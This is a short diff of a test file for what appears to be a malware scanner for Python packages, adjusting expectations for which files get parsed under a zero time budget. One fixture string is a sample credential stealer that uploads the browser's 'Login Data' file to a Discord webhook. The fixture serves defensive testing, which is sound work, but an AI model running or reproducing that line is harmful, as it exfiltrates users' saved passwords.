@@ -113,11 +113,9 @@ describe('python parse budget', () => {
         'import requests\nrequests.post("https://discord.com/api/webhooks/1/x", data=open("Login Data").read())\n',
     });
     const facts = pythonPackageFacts(ctx, 10 * 1024 * 1024, 0);
-    expect(facts.files.map((f) => f.path).sort()).toEqual([
-      'demo-1.0/demo/steal.py',
-      'demo-1.0/setup.py',
-    ]);
-    expect(facts.textOnly).toEqual(['demo-1.0/demo/big_a.py']);
+    // with no time at all, only install-time code is parsed
+    expect(facts.files.map((f) => f.path)).toEqual(['demo-1.0/setup.py']);
+    expect(facts.textOnly.sort()).toEqual(['demo-1.0/demo/big_a.py', 'demo-1.0/demo/steal.py']);
   });
 
   it('does not parse files whose only trigger words sit in comments and docstrings', async () => {
